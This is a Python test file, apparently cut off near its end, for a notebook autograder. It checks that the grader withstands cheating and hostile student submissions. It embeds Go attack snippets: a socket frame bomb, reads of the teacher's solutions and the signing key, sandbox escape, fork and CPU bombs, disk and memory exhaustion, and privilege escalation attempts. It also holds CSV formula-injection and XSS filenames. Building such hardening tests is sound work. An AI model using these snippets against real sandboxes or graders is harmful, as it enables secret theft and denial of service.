"""`gptnotes grade` against submissions written to cheat it or to corrupt its records (issue 46),
each built from the blank 07-exercises (which scores 0) with one cheat added: every one must
still score 0, and the records must stay one unique, escaped row set per student; and against
submissions that attack the grader or the others (issue 47): the grader exits 0 with every
grade written and the student graded beside keeps full marks.

The short form (make test) grades the cheats marked True with the records in one run, and issue
47's attacks beside alice in another, against 07-exercises cut before exercise 5 (its checks
take milliseconds; the attacks are on the grader, not on the checks): the frame bomb, the
model's neighbour and the connection file, the escaping program and the large file, the other
kernels' sockets and UDP, a thousand programs, root's privileges. `make test-hostile` sets
GPTNOTES_HOSTILE=all and runs every one (the recursion, the killed grader and its rerun, the
time budget and output caps, the disk caps, the library calls, a program's memory, the grader
run unprivileged, every cheat). The docs' threat model (docs/grading.md) lists each
case with the result of this file."""
import csv
import json
import os
import pathlib
import shutil
import subprocess
import tempfile

import pytest

from kernel_harness import BIN, ROOT
from test_grade import CHECKS, cells_by_id, make

NOTEBOOKS = ROOT / "notebooks"
AGAINST = NOTEBOOKS / "07-exercises.ipynb"
FULL = os.environ.get("GPTNOTES_HOSTILE") == "all"


def blank():
    return json.loads(AGAINST.read_text())


def code(src, id):
    return {"cell_type": "code", "execution_count": None, "id": id, "metadata": {}, "outputs": [], "source": src}


def with_cell(src, answers=None):
    """The blank notebook (or, with answers, the blank with those answer cells replaced) with
    one more code cell, src, after the setup cell."""
    nb = blank()
    for gid, cell in cells_by_id(nb).items():
        if answers and gid in answers:
            cell["source"] = answers[gid]
    nb["cells"].insert(2, code(src, "hostile"))
    return nb


# Each cheat: (the submission, in the short form?). All score 0 on every exercise.
CHEATS = {
    # Every check fails by calling panic: a panic that does nothing makes it pass.
    "shadow-func-panic": (lambda: with_cell("func panic(v any) {}"), True),
    "shadow-var-panic": (lambda: with_cell("var panic = func(...any) {}"), False),
    # A package name the checks use, taken by a variable whose methods answer what the check wants.
    "shadow-package": (lambda: with_cell("""type fakeConfig struct{}

func (fakeConfig) NumParams() int       { return 0 }
func (fakeConfig) NumParamsUntied() int { return 0 }

var gpt = struct{ Small fakeConfig }{}"""), False),
    # An answer that ends its goroutine: the check cell ends early, without a panic.
    "goexit": (lambda: with_cell('import "runtime"', {"ex03-param-count-answer": """func paramCount(cfg gpt.Config) int {
	runtime.Goexit()
	return 0
}""", "ex04-untied-answer": "untiedExtra := 0\nruntime.Goexit()"}), True),
    "skipnow": (lambda: with_cell('import "testing"', {"ex05-softmax-answer": """func softmaxT(logits []float32, T float64) []float64 {
	(&testing.T{}).SkipNow()
	return nil
}"""}), False),
    # The library state the checks compare with, zeroed: a blank answer then matches it.
    "zero-presets": (lambda: with_cell("""for name := range gpt.Presets {
	gpt.Presets[name] = gpt.Config{}
}
gpt.Small, gpt.XL = gpt.Config{}, gpt.Config{}
model.Config = gpt.Config{}"""), True),
}

# Answers that call the functions the checks compare with: full marks in practice; with --exam
# the library functions are the checks' own (0), the methods are not reserved (still 1: the
# threat model lists it as not held).
LIBRARY = {
    "ex01-count-pairs-answer": "func countPairs(ids []int) map[tokenizer.Pair]int { return tokenizer.PairCounts(ids) }",
    "ex02-merge-pair-answer": "func mergePair(ids []int, pair tokenizer.Pair, id int) []int { return tokenizer.Merge(ids, pair, id) }",
    "ex10-cache-bytes-answer": "func cacheBytes(cfg gpt.Config, positions, bytesPerNumber int) int { return gpt.CacheBytes(cfg, positions, bytesPerNumber) }",
}
LIBRARY_METHODS = {
    "ex03-param-count-answer": "func paramCount(cfg gpt.Config) int { return cfg.NumParams() }",
    "ex04-untied-answer": "untiedExtra := gpt.Small.NumParamsUntied() - gpt.Small.NumParams()",
}


def grade(tmp, subs, *flags, env=None, against=AGAINST):
    """Grades subs, checks that the grader exited 0 and left none of its temporary directories
    or cgroups, and returns the rows of grades.csv, the output folder and the grader's log."""
    import glob
    out = tmp / "grades"
    r = subprocess.Popen([BIN, "grade", "--against", str(against), "--out", str(out), "--timeout-cell", "30s",
                          "--memory", "768MiB", "--jobs", "2", *flags, *map(str, subs)],
                         stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, env=env)
    _, r.stderr = r.communicate(timeout=900)
    assert r.returncode == 0, r.stderr
    left = glob.glob(f"/tmp/gptnotes-grade-{r.pid}-*") + glob.glob(f"/sys/fs/cgroup/*/gptnotes-grade-{r.pid}-*") + \
        glob.glob(f"/sys/fs/cgroup/*/*/*/gptnotes-grade-{r.pid}-*") + glob.glob(f"/sys/fs/cgroup/gptnotes-grade-{r.pid}-*")
    assert not left, left
    with open(out / "grades.csv", newline="") as f:
        rows = list(csv.DictReader(f))
    return rows, out, r.stderr


def totals(rows):
    t = {}
    for row in rows:
        t[row["student"]] = t.get(row["student"], 0) + float(row["points"])
    return t


@pytest.fixture(scope="module")
def cheats(records):
    """The cheats, graded in the records' run (one grader for both, which keeps its two workers
    busy to the end)."""
    rows, _, stderr = records
    return totals(rows), rows, stderr


@pytest.mark.parametrize("name", sorted(CHEATS))
def test_cheat_scores_zero(cheats, name):
    if not (CHEATS[name][1] or FULL):
        pytest.skip("in make test-hostile only")
    got, rows, stderr = cheats
    passed = [r["exercise"] for r in rows if r["student"] == name and float(r["points"]) > 0]
    assert got[name] == 0, (passed, stderr)


@pytest.mark.skipif(not FULL, reason="in make test-hostile only")
@pytest.mark.parametrize("exam", [False, True])
def test_library_calls(tmp_path, exam):
    """Answers that are calls of the library's own functions: in practice they pass (the library
    is there to be used), with --exam the checks' reference functions are the checks' alone."""
    subs = []
    for name, answers in [("library", LIBRARY), ("library-methods", LIBRARY_METHODS)]:
        nb = blank()
        for gid, cell in cells_by_id(nb).items():
            cell["source"] = answers.get(gid, cell["source"])
        (tmp_path / f"{name}.ipynb").write_text(json.dumps(nb))
        subs.append(tmp_path / f"{name}.ipynb")
    rows, out, stderr = grade(tmp_path, subs, *(["--exam"] if exam else []))
    got = {(r["student"], r["exercise"]): (float(r["points"]), r["message"]) for r in rows}
    for gid in LIBRARY:
        check = gid.removesuffix("-answer")
        assert got["library", check][0] == (0 if exam else 1), (check, got["library", check], stderr)
    page = (out / "feedback" / "library.html").read_text()
    refused = [line for line in page.splitlines() if "is the checks&#39; own in this exam" in line]
    for name in ["tokenizer.PairCounts(", "tokenizer.Merge(", "gpt.CacheBytes("]:
        assert any(name in line for line in refused) == exam, (name, refused)
    for gid in LIBRARY_METHODS:  # not reserved: full marks in an exam too
        check = gid.removesuffix("-answer")
        assert got["library-methods", check][0] == 1, (check, got["library-methods", check], stderr)


@pytest.fixture(scope="module")
def records(tmp_path_factory):
    """The cheats (CHEATS), and submissions whose names and files are the attack: colliding
    names, a formula and HTML in a name, a symbolic link to the teacher's solutions, metadata of
    the wrong type, all in one run beside a/alice (full marks)."""
    tmp = tmp_path_factory.mktemp("records")
    subs = tmp / "submissions"
    for d in ["a", "b"]:
        (subs / d).mkdir(parents=True)
    files = {
        "a/alice.ipynb": make(),  # all right
        "b/alice.ipynb": blank(),
        "alice-2.ipynb": blank(),
        '=HYPERLINK("x.example?leak="&A1).ipynb': blank(),
        "<img src=x onerror=alert(1)>.ipynb": blank(),
    }
    odd = make()
    cells_by_id(odd)["ex03-param-count"]["metadata"]["nbgrader"]["points"] = "1"  # a string
    odd["cells"][1]["metadata"]["nbgrader"] = "not an object"  # the setup cell
    files["odd-metadata.ipynb"] = odd
    files.update({f"{name}.ipynb": build() for name, (build, short) in CHEATS.items() if short or FULL})
    for name, nb in files.items():
        (subs / name).write_text(json.dumps(nb))
    (tmp / "teacher").mkdir()
    (tmp / "teacher" / "solutions.ipynb").write_text((NOTEBOOKS / "07-exercises-solutions.ipynb").read_text())
    (subs / "linked.ipynb").symlink_to(tmp / "teacher" / "solutions.ipynb")
    rows, out, stderr = grade(tmp, sorted(subs.rglob("*.ipynb")))
    return rows, out, stderr


def test_names_are_unique_and_stable(records):
    rows, out, _ = records
    got = totals(rows)
    assert got["a/alice"] == 13 and got["b/alice"] == 0 and got["alice-2"] == 0, got
    assert len(rows) == len(got) * len(CHECKS)
    pages = sorted(str(p.relative_to(out / "feedback")) for p in (out / "feedback").rglob("*.html"))
    assert len(pages) == len(got), pages
    assert "✓" in (out / "feedback" / "a" / "alice.html").read_text()


def test_csv_has_no_formula(records):
    rows, out, _ = records
    for row in rows:
        for v in row.values():
            assert v[:1] not in ("=", "+", "-", "@", "\t", "\r"), row


def test_summary_has_no_html(records):
    _, out, _ = records
    summary = (out / "summary.md").read_text()
    assert "<img" not in summary, summary
    assert "&lt;img src=x onerror=alert(1)&gt;" in summary


def test_symlink_is_not_graded(records):
    rows, _, stderr = records
    linked = [r for r in rows if r["student"] == "linked"]
    assert linked and all(float(r["points"]) == 0 and "symbolic link" in r["message"] for r in linked), linked


def test_odd_metadata_is_graded(records):
    rows, _, stderr = records
    got = {r["exercise"]: r for r in rows if r["student"] == "odd-metadata"}
    assert sum(float(r["points"]) for r in got.values()) == 13, (got, stderr)
    assert "nbgrader metadata" in got["ex03-param-count"]["message"], got["ex03-param-count"]


# Issue 47: one submission cannot harm the grader or the others.

# Nine bytes on each of the kernel's own sockets, one of them the grader's connection: a frame
# header claiming 2^62 bytes.
FRAME_BOMB = """import (
	"os"
	"strconv"
	"strings"
	"syscall"
)

ents, _ := os.ReadDir("/proc/self/fd")
for _, e := range ents {
	if target, _ := os.Readlink("/proc/self/fd/" + e.Name()); strings.HasPrefix(target, "socket:") {
		fd, _ := strconv.Atoi(e.Name())
		syscall.Write(fd, []byte{2, 0x40, 0, 0, 0, 0, 0, 0, 0})
	}
}"""


# An answer that recurses without end: under --memory 2GiB the stack would reach Go's 1 GB
# maximum, which ends the process, before the memory guard stopped it.
DEEP = {"ex03-param-count-answer": """func paramCount(cfg gpt.Config) int {
	return paramCount(cfg) + 1
}"""}


# What the teacher keeps beside the model (GPTNOTES_MODEL=~/course/gopher.safetensors), and the
# grader's connection file with the key that signs its messages (the kernel's last argument).
SNOOP_MODEL = """import (
	"os"
	"path/filepath"
	"strings"
)

weights := os.Getenv("GPTNOTES_MODEL")
cmdline, _ := os.ReadFile("/proc/self/cmdline")
args := strings.Split(strings.TrimRight(string(cmdline), "\\x00"), "\\x00")
for _, p := range []string{weights, filepath.Join(filepath.Dir(weights), "solutions.txt"), args[len(args)-1]} {
	data, err := os.ReadFile(p)
	fmt.Printf("read %s: %d bytes, %v\\n", filepath.Base(p), len(data), err)
	if len(data) < 1000 {
		fmt.Printf("%s\\n", data)
	}
}"""


# A program that leaves the kernel's process group and its parent (setsid -f), and a file
# written past the file-size limit (256 MiB: grade.MaxFileSize).
ESCAPE = """import (
	"os"
	"os/exec"
)

err := exec.Command("setsid", "-f", "sleep", "347").Run() // no pipes: they would wait for the sleep
fmt.Println("setsid:", err)
f, _ := os.Create("big")
_, err = f.WriteAt([]byte("x"), 300<<20)
fmt.Println("write at 300 MiB:", err)
f.Close()"""

# Then the kernel ends itself, its subreaper gone: the sleep goes to the grader's care.
SUICIDE = """import "syscall"

syscall.Kill(os.Getpid(), syscall.SIGKILL)"""


# The other kernels' sockets, found in /proc/net/unix and dialled (with --jobs 2 another kernel
# runs beside it), and a UDP datagram sent out.
NEIGHBOURS = """import (
	"net"
	"os"
	"path/filepath"
	"strings"
)

cmdline, _ := os.ReadFile("/proc/self/cmdline")
args := strings.Split(strings.TrimRight(string(cmdline), "\\x00"), "\\x00")
own := filepath.Dir(args[len(args)-1]) // its own sockets' folder
table, err := os.ReadFile("/proc/net/unix")
fmt.Println("read /proc/net/unix:", err)
listed, reached := 0, 0
for _, line := range strings.Split(string(table), "\\n") {
	f := strings.Fields(line)
	if len(f) < 8 || !strings.HasPrefix(f[7], "/") || strings.HasPrefix(f[7], own+"/") {
		continue
	}
	listed++
	if c, err := net.Dial("unix", f[7]); err == nil {
		reached++
		c.Close()
	}
}
fmt.Printf("other sockets listed: %d, reached: %d\\n", listed, reached)
c, err := net.Dial("udp", "192.0.2.1:9")
if err == nil {
	_, err = c.Write([]byte("x"))
}
fmt.Println("udp:", err)"""


# A thousand programs that sleep: a kernel and what it starts are MaxTasks (256) tasks at most.
FORKS = """import "os/exec"

started := 0
var err error
for started < 1000 {
	if err = exec.Command("sleep", "348").Start(); err != nil {
		break
	}
	started++
}
fmt.Printf("started %d, then: %v\\n", started, err)"""


# What root may and nobody may not: a device node in its directory, its user back to root, the
# accounts in /etc/passwd.
PRIVILEGE = """import (
	"os"
	"syscall"
)

fmt.Println("uid:", os.Getuid(), "gid:", os.Getgid())
fmt.Println("mknod:", syscall.Mknod("null2", syscall.S_IFCHR|0o666, 1<<8|3))
fmt.Println("setuid 0:", syscall.Setuid(0))
data, err := os.ReadFile("/etc/passwd")
fmt.Println("passwd:", len(data), err)"""


# Three programs that loop without end, and the CPU limit of the kernel's cgroup read from its
# files: a kernel and what it starts get the cores of --jobs' share (GOMAXPROCS), no more.
SPIN = """import (
	"os/exec"
	"path/filepath"
	"strings"
)

for i := 0; i < 3; i++ {
	exec.Command("sh", "-c", "while :; do :; done").Start()
}
cgroups, _ := os.ReadFile("/proc/self/cgroup")
for _, line := range strings.Split(string(cgroups), "\\n") {
	f := strings.SplitN(line, ":", 3)
	if len(f) < 3 {
		continue
	}
	files, _ := filepath.Glob("/sys/fs/cgroup/cpu*" + f[2] + "/cpu.cfs_quota_us")
	more, _ := filepath.Glob("/sys/fs/cgroup" + f[2] + "/cpu.max")
	for _, file := range append(files, more...) {
		if data, err := os.ReadFile(file); err == nil {
			fmt.Println("cpu limit:", strings.Fields(string(data))[0])
		}
	}
}"""


def escape():
    nb = with_cell(ESCAPE)
    nb["cells"].insert(3, code(SUICIDE, "suicide"))
    return nb


def sleepers(seconds=b"347"):
    """The processes running `sleep 347`, ESCAPE's (or FORKS's, 348)."""
    found = []
    for pid in os.listdir("/proc"):
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                if f.read().split(b"\0")[:2] == [b"sleep", seconds]:
                    found.append(int(pid))
        except (FileNotFoundError, ProcessLookupError, PermissionError, NotADirectoryError):
            pass
    return found


def short(nb):
    """nb cut before exercise 5: four exercises whose checks take milliseconds (07-exercises' last
    ones run the model for a second each), enough for attacks on the grader, and cheap."""
    nb["cells"] = [c for c in nb["cells"][:next(i for i, c in enumerate(nb["cells"]) if c["source"] and
                                                 "".join(c["source"]).startswith("## Exercise 5"))]]
    return nb


SHORT_POINTS = 4  # the short notebook's four checks, a point each


def attack_submissions():
    """The submissions of issue 47's cases, by file name, on the short notebook; the recursion (a
    few seconds before the stack guard stops it; kernel/stackguard_test.go tests the guard) in
    make test-hostile only."""
    subs = {"bomb.ipynb": with_cell(FRAME_BOMB), "snoop.ipynb": with_cell(SNOOP_MODEL),
            "escape.ipynb": escape(), "neighbours.ipynb": with_cell(NEIGHBOURS),
            "forks.ipynb": with_cell(FORKS), "privilege.ipynb": with_cell(PRIVILEGE),
            "spin.ipynb": with_cell('import "os"\n' + SPIN)}
    if FULL:
        deep = blank()
        for gid, cell in cells_by_id(deep).items():
            cell["source"] = DEEP.get(gid, cell["source"])
        subs["deep.ipynb"] = deep
    return {name: short(nb) for name, nb in subs.items()}


@pytest.fixture(scope="module")
def attacks(tmp_path_factory):
    """Issue 47's attacks on the grader and the others (attack_submissions), graded in one run
    beside alice (full marks), against the short notebook (short), with the model in a folder of
    the teacher's."""
    tmp = tmp_path_factory.mktemp("attacks")
    subs = tmp / "submissions"
    subs.mkdir()
    against = tmp / "07-short.ipynb"
    against.write_text(json.dumps(short(blank())))
    files = {"alice.ipynb": short(make()), **attack_submissions()}
    for name, nb in files.items():
        (subs / name).write_text(json.dumps(nb))
    # The model, and the teacher's files beside it, all readable to everyone (a grader run as root
    # runs its kernels as nobody, who must read the model): only the sandbox keeps the rest out.
    teacher = pathlib.Path(tempfile.mkdtemp(prefix="gptnotes-course-"))
    teacher.chmod(0o711)
    for name in ["gopher.safetensors", "gopher.tok"]:
        (teacher / name).write_bytes((ROOT / "testdata" / name).read_bytes())
    (teacher / "solutions.txt").write_text("TEACHER-SECRET-47")
    for f in teacher.iterdir():
        f.chmod(0o644)
    env = {k: v for k, v in os.environ.items() if k != "GPT2_WEIGHTS"}
    env["GPTNOTES_MODEL"] = str(teacher / "gopher.safetensors")
    # The longest first (the recursion takes seconds to reach the stack guard's limit), so that
    # the other worker grades the rest meanwhile.
    paths = sorted(subs.glob("*.ipynb"), key=lambda p: (p.name != "deep.ipynb", str(p)))
    try:
        rows, out, stderr = grade(tmp, paths, "--memory", "2GiB", env=env, against=against)
    finally:
        shutil.rmtree(teacher)
    return rows, out, stderr, teacher


def test_frame_bomb_harms_no_one(attacks):
    """The grader reads the bomb's frames without allocating what they claim: it exits 0 with
    every row written, and the student graded beside keeps full marks."""
    rows, _, stderr, _ = attacks
    got = totals(rows)
    assert got["alice"] == SHORT_POINTS and got["bomb"] == 0, (got, stderr)


@pytest.mark.skipif(not FULL, reason="in make test-hostile only")
def test_recursion_is_stopped(attacks):
    """The recursion fails its check with an error that names it; the kernel goes on, so the
    checks after it run (and fail as the blank's do, "not yet")."""
    rows, _, stderr, _ = attacks
    got = {r["exercise"]: r["message"] for r in rows if r["student"] == "deep"}
    assert "stack overflow (recursion too deep)" in got["ex03-param-count"], (got, stderr)
    later = [m for e, m in got.items() if e >= "ex04"]
    assert later and all(m.startswith("not yet: ") for m in later), got
    assert totals(rows)["alice"] == SHORT_POINTS, stderr


def test_model_folder_and_key_out_of_reach(attacks):
    """The sandbox reads the model's own files (alice's setup cell loads it: full marks), not
    what lies beside them; the connection file is gone before the first cell runs."""
    rows, out, stderr, teacher = attacks
    if "not confined" in stderr:
        pytest.skip("Landlock is not available here: " + stderr)
    assert totals(rows)["alice"] == SHORT_POINTS, stderr
    page = (out / "feedback" / "snoop.html").read_text()
    size = (ROOT / "testdata" / "gopher.safetensors").stat().st_size
    assert f"read gopher.safetensors: {size} bytes, &lt;nil&gt;" in page, page
    assert "read solutions.txt: 0 bytes, open " in page and "permission denied" in page, page
    assert "read kernel.json: 0 bytes, open " in page and "no such file or directory" in page, page
    assert "TEACHER-SECRET-47" not in page and '"key"' not in page, page


def test_programs_started_end_with_the_kernel(attacks):
    """The program that left its process group is gone once the grading ends, though its kernel
    killed itself (the kernel was its subreaper, then the grader is), and the file past 256 MiB
    is refused."""
    rows, out, stderr, _ = attacks
    assert totals(rows)["alice"] == SHORT_POINTS, stderr
    page = (out / "feedback" / "escape.html").read_text()
    assert "setsid: &lt;nil&gt;" in page, page  # it did start
    assert "write at 300 MiB: write big: file too large" in page, page
    assert "the kernel ended (signal: killed)" in page, page
    left = sleepers()
    for pid in left:
        os.kill(pid, 9)
    assert not left, "sleep 347 outlived the grading"


def test_no_network_and_no_neighbours(attacks):
    """Each kernel in a network namespace of its own: the other kernels' sockets are not listed
    (nor reached), and a UDP datagram does not leave."""
    rows, out, stderr, _ = attacks
    if "shared the grader's network" in stderr:
        pytest.skip("no network namespace here: " + stderr)
    assert totals(rows)["alice"] == SHORT_POINTS, stderr
    page = (out / "feedback" / "neighbours.html").read_text()
    assert "other sockets listed: 0, reached: 0" in page, page
    assert "udp: dial udp 192.0.2.1:9: connect: network is unreachable" in page, page


def test_privileges_dropped(attacks):
    """A grader run as root runs its kernels as nobody: no device node, no way back to root; and
    the sandbox reads no accounts."""
    rows, out, stderr, _ = attacks
    assert totals(rows)["alice"] == SHORT_POINTS and totals(rows)["privilege"] == 0, stderr
    page = (out / "feedback" / "privilege.html").read_text()
    if os.geteuid() == 0:
        assert "uid: 65534 gid: 65534" in page, page
    assert "mknod: &lt;nil&gt;" not in page and "setuid 0: &lt;nil&gt;" not in page, page
    if "not confined" not in stderr:
        assert "passwd: 0 open /etc/passwd: permission denied" in page, page


def test_cpu_is_capped(attacks):
    """The kernel's cgroup caps its CPU time, and its busy programs', at its share of the cores
    (one of two with --jobs 2 here), where the system has a cpu controller to do it."""
    rows, out, stderr, _ = attacks
    assert totals(rows)["alice"] == SHORT_POINTS and totals(rows)["spin"] == 0, stderr
    if "no cgroup per kernel" in stderr or not (os.path.exists("/sys/fs/cgroup/cpu") or
                                                 os.path.exists("/sys/fs/cgroup/cpu,cpuacct") or
                                                 os.path.exists("/sys/fs/cgroup/cgroup.controllers")):
        pytest.skip("no cpu cgroup here")
    page = (out / "feedback" / "spin.html").read_text()
    assert f"cpu limit: {max(os.cpu_count() // 2, 1) * 100000}" in page, page


def test_fork_bomb_is_capped(attacks):
    """The thousand programs stop at the kernel's task cap (a cgroup's pids.max, or the watcher),
    and none outlives the grading."""
    rows, out, stderr, _ = attacks
    assert totals(rows)["alice"] == SHORT_POINTS and totals(rows)["forks"] == 0, stderr
    page = (out / "feedback" / "forks.html").read_text()
    left = sleepers(b"348")
    for pid in left:
        os.kill(pid, 9)
    assert not left, f"{len(left)} of the sleeps outlived the grading"
    assert "started 1000" not in page, page


@pytest.mark.skipif(not FULL, reason="in make test-hostile only")
@pytest.mark.skipif(os.geteuid() != 0 or not shutil.which("setpriv"), reason="needs root, to start the grader as nobody")
def test_unprivileged_grader():
    """The grader run as an unprivileged user (nobody, through setpriv): a user namespace holds
    each kernel's network namespace where the system allows them, and, with no cgroup to make,
    the watcher stops the fork bomb; nothing is left behind."""
    subs = {"alice": make(), "neighbours": with_cell(NEIGHBOURS), "forks": with_cell(FORKS),
            "privilege": with_cell(PRIVILEGE), "escape": escape()}
    tmp_path = pathlib.Path(tempfile.mkdtemp(prefix="gptnotes-unprivileged-"))  # pytest's are root's alone
    try:
        unprivileged_grader(tmp_path, subs)
    finally:
        shutil.rmtree(tmp_path)


def unprivileged_grader(tmp_path, subs):
    tmp_path.chmod(0o777)
    for name, nb in subs.items():
        (tmp_path / f"{name}.ipynb").write_text(json.dumps(nb))
    out = tmp_path / "grades"
    r = subprocess.run(["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", BIN, "grade", "--against",
                        str(AGAINST), "--out", str(out), "--timeout-cell", "30s", "--jobs", "2",
                        *sorted(str(p) for p in tmp_path.glob("*.ipynb"))],
                       capture_output=True, text=True, timeout=600)
    assert r.returncode == 0, r.stderr
    with open(out / "grades.csv", newline="") as f:
        got = totals(list(csv.DictReader(f)))
    assert got == {"alice": 13, "neighbours": 0, "forks": 0, "privilege": 0, "escape": 0}, r.stderr
    page = lambda name: (out / "feedback" / f"{name}.html").read_text()
    if "shared the grader's network" not in r.stderr:
        assert "other sockets listed: 0, reached: 0" in page("neighbours"), page("neighbours")
    assert "started 1000" not in page("forks"), page("forks")
    if "no cgroup per kernel" in r.stderr:
        assert "started more than 256 processes: the kernel was killed" in r.stderr, r.stderr
    assert "uid: 65534" in page("privilege") and "mknod: &lt;nil&gt;" not in page("privilege")
    left = sleepers(b"347") + sleepers(b"348")
    for pid in left:
        os.kill(pid, 9)
    assert not left, "programs outlived the grading"


# 1,250 MiB written in five files of 250 MiB (each under the file-size limit), and 20,000 empty
# files: a kernel's directories hold 1 GiB and 10,000 entries at most (grade.MaxDisk, MaxFiles).
DISK = """import (
	"bytes"
	"os"
)

chunk := bytes.Repeat([]byte("x"), 1<<20)
for i := 0; i < 5; i++ {
	f, _ := os.Create(fmt.Sprintf("big%d", i))
	for j := 0; j < 250; j++ {
		f.Write(chunk)
	}
	f.Close()
}
fmt.Println("wrote 1,250 MiB")
time.Sleep(5 * time.Second)"""

MANY_FILES = """for i := 0; i < 20000; i++ {
	os.WriteFile(fmt.Sprintf("f%d", i), nil, 0o644)
}
fmt.Println("made 20,000 files")
time.Sleep(5 * time.Second)"""


@pytest.mark.skipif(not FULL, reason="in make test-hostile only")
def test_disk_caps(tmp_path):
    """What a kernel writes is capped all told: the kernel that wrote past 1 GiB, and the one that
    made 20,000 files, are killed within a check (half a second), alice beside them keeps full
    marks, and their directories are gone after the grading."""
    import glob
    (tmp_path / "alice.ipynb").write_text(json.dumps(make()))
    (tmp_path / "disk.ipynb").write_text(json.dumps(with_cell('import "time"\n' + DISK)))
    (tmp_path / "files.ipynb").write_text(json.dumps(with_cell('import (\n\t"os"\n\t"time"\n)\n\n' + MANY_FILES)))
    out = tmp_path / "grades"
    grader = subprocess.Popen([BIN, "grade", "--against", str(AGAINST), "--out", str(out), "--timeout-cell", "60s",
                               "--jobs", "2", *sorted(str(p) for p in tmp_path.glob("*.ipynb"))],
                              stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    _, stderr = grader.communicate(timeout=600)
    assert grader.returncode == 0, stderr
    with open(out / "grades.csv", newline="") as f:
        rows = list(csv.DictReader(f))
    assert totals(rows) == {"alice": 13, "disk": 0, "files": 0}, stderr
    msg = {r["student"]: r["message"] for r in rows if r["exercise"] == "ex01-count-pairs"}
    assert "past 1024 MiB: the kernel was killed" in msg["disk"], msg
    assert "made more than 10000 files: the kernel was killed" in msg["files"], msg
    assert not glob.glob(f"/tmp/gptnotes-grade-{grader.pid}-*"), "the kernels' directories are left"


# A program that leaves the kernel's session (setsid) and holds 1,200 MiB, under --memory 512MiB:
# the kernel's own guard does not see it.
HOG = """import "os/exec"

err := exec.Command("setsid", "-w", "python3", "-c", "import time; b = bytearray(1200 << 20); time.sleep(120)").Run()
fmt.Println("hog:", err)"""


@pytest.mark.skipif(not FULL, reason="in make test-hostile only")
def test_program_memory_counts(tmp_path):
    """The kernel and the programs it started hold twice the limit at most together: the
    kernel's cgroup ends the program at once (the kernel goes on), or, without a cgroup, the
    backstop that sums their resident sets kills them all; either well before the cell's time
    limit (30 s), and nothing outlives the grading."""
    import re
    (tmp_path / "alice.ipynb").write_text(json.dumps(make()))
    (tmp_path / "hog.ipynb").write_text(json.dumps(with_cell(HOG)))
    rows, out, stderr = grade(tmp_path, [tmp_path / "alice.ipynb", tmp_path / "hog.ipynb"], "--memory", "512MiB")
    got = {r["exercise"]: r["message"] for r in rows if r["student"] == "hog"}
    assert totals(rows) == {"alice": 13, "hog": 0}, stderr
    page = (out / "feedback" / "hog.html").read_text()
    if "no cgroup per kernel" in stderr:
        assert all("with the programs it started, past twice its memory limit" in m for m in got.values()), got
    else:
        # killed by the system: setsid, or the program as setsid reports it (128 + SIGKILL)
        assert "hog: signal: killed" in page or "hog: exit status 137" in page, page
    seconds = float(re.search(r"hog: 0/13 points in ([0-9.]+) s", stderr).group(1))
    assert seconds < 30, stderr
    assert not [p for p in os.listdir("/proc") if p.isdigit() and b"bytearray(1200" in open_cmdline(p)], "the hog outlived the grading"


def open_cmdline(pid):
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as f:
            return f.read()
    except OSError:
        return b""


def children(pid):
    out = []
    for task in os.listdir(f"/proc/{pid}/task"):
        with open(f"/proc/{pid}/task/{task}/children") as f:
            out += [int(c) for c in f.read().split()]
    return out


def alive(pids):
    def running(p):
        try:
            with open(f"/proc/{p}/stat") as f:
                return f.read().rsplit(")", 1)[1].split()[0] != "Z"
        except FileNotFoundError:
            return False
    return [p for p in pids if running(p)]


@pytest.mark.skipif(not FULL, reason="in make test-hostile only")
def test_grader_killed_then_rerun(tmp_path):
    """A grader killed with SIGKILL while a submission loops: no kernel outlives it (Linux's
    parent-death signal), the rows of alice, graded before the looper, are written already, and a
    rerun into the same --out grades the looper alone."""
    import signal
    import time
    (tmp_path / "alice.ipynb").write_text(json.dumps(make()))
    (tmp_path / "looper.ipynb").write_text(json.dumps(with_cell("for {\n}")))
    subs = [str(tmp_path / "alice.ipynb"), str(tmp_path / "looper.ipynb")]
    out = tmp_path / "grades"
    grader = subprocess.Popen([BIN, "grade", "--against", str(AGAINST), "--out", str(out),
                               "--timeout-cell", "5m", "--jobs", "1", *subs],
                              stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    deadline = time.time() + 300
    rows = []
    while time.time() < deadline and not any(r["student"] == "alice" for r in rows):
        time.sleep(0.5)
        if (out / "grades.csv").exists():
            with open(out / "grades.csv", newline="") as f:
                rows = list(csv.DictReader(f))
    assert totals(rows) == {"alice": 13}, rows  # alice's rows, before the looper ends
    assert (out / "feedback" / "alice.html").exists()
    kernels = []
    while not kernels and time.time() < deadline:
        time.sleep(0.5)
        kernels = children(grader.pid)
    assert kernels, "no kernel started for the looper"
    time.sleep(3)  # the looper's kernel runs the endless cell
    grader.send_signal(signal.SIGKILL)
    grader.wait()
    deadline = time.time() + 10
    left = alive(kernels)
    while left and time.time() < deadline:
        time.sleep(0.2)
        left = alive(kernels)
    for k in left:
        os.kill(k, signal.SIGKILL)
    assert not left, "kernels outlived the grader"
    import glob
    stale = glob.glob(f"/tmp/gptnotes-grade-{grader.pid}-*")  # the looper's copy and sockets
    assert stale, "the killed grader's temporary directories are not named after it"
    groups = glob.glob(f"/sys/fs/cgroup/**/gptnotes-grade-{grader.pid}-*", recursive=True)  # the kernels' cgroups
    print(f"left by the killed grader: {len(stale)} directories, {len(groups)} cgroups")

    start = time.time()
    r = subprocess.run([BIN, "grade", "--against", str(AGAINST), "--out", str(out), "--timeout-cell", "2s",
                        "--jobs", "1", *subs], capture_output=True, text=True, timeout=600)
    assert r.returncode == 0, r.stderr
    assert "alice: 13/13 points, graded before (graded.jsonl)" in r.stderr, r.stderr
    left = [d for d in stale + groups if os.path.exists(d)]  # removed by the rerun
    assert not left, left
    with open(out / "grades.csv", newline="") as f:
        assert totals(list(csv.DictReader(f))) == {"alice": 13, "looper": 0}, r.stderr
    print(f"rerun: {time.time() - start:.1f} s")


# A hundred endless cells: at --timeout-cell 2s each they would hold the grader 200 s; the
# notebook's time budget (90 s here: alice's whole notebook, graded beside them, took over 45 s
# at a load of 46) ends them.
ENDLESS = "for {\n}"

# A cell that displays 200 MiB: the client keeps 16 MiB of a cell's displays, the grader 8 MiB
# of a notebook's outputs.
FLOOD = """import "strings"

for i := 0; i < 200; i++ {
	display.MIME(display.Bundle{Data: map[string]any{"text/plain": strings.Repeat("x", 1<<20)}})
}"""


